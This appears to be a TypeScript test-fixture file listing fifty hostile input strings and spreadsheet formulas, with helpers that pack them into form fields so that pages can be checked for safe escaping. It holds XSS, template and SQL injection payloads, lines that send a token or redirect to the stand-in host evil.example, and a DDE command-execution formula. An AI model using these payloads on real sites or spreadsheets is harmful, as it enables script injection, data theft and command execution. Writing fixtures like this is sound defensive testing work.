// Fifty texts that want to be more than text, whole or joined to fill fields that hold much. Data alone.

export const HOSTILE: readonly string[] = [
  '<script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</td></tr></table><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><img src=x onerror=alert(1)>',
  '<img src="https://evil.example/x.png">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext></mtext><script>alert(1)</script>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="javascript:alert(1)">',
  '<embed src="//evil.example/x.swf">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>body{display:none}</style>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<form action=//evil.example><input name=token>',
  '<a href="javascript:alert(1)">click</a>',
  '<b onmouseover=alert(1)>bold</b>',
  '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '" onmouseover="alert(1)" x="',
  "' onfocus='alert(1)' autofocus x='",
  '` onload=alert(1) `',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '{{constructor.constructor("alert(1)")()}}',
  '$' + '{alert(1)}',
  '<%= 7*7 %>',
  "'; DROP TABLE orders; --",
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)',
  '\\u003cscript\\u003ealert(1)',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '../../../../console/logout',
  '{orderNo} {amount} {id}',
  '\u202egnp.exe',
  'a\u0000b'.replace('\u0000', '\ufffd'),
  '龙井茶 "特级" & <新>',
  '👩‍💻<script>🧨</script>',
  'x'.repeat(200),
];

/** Between two of them where a field holds many. */
const BETWEEN = ' ¦ ';

/** All of these in as few texts as may be of so many characters; a longer one is left out. */
export function joined(charsMax: number, texts: readonly string[] = HOSTILE): readonly string[] {
  const parts: string[] = [];
  for (const text of texts.filter(({ length }) => length <= charsMax)) {
    const last = parts.at(-1);
    if (last === undefined || last.length + BETWEEN.length + text.length > charsMax) parts.push(text);
    else parts.splice(-1, 1, last + BETWEEN + text);
  }
  return parts;
}

/** A page shows one space where a text has several, or a line's end. */
export const flat = (text: string): string => text.replaceAll(/\s+/g, ' ').trim();

/** One word of this length: it must not push a page aside. */
export const longWord = (chars: number): string => 'm'.repeat(chars);

/** What a spreadsheet would take for a formula. */
export const FORMULAS: readonly string[] = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  "=cmd|'/C_calc'!A0",
  '=HYPERLINK("//evil.example")',
  'a;=1+1',
];
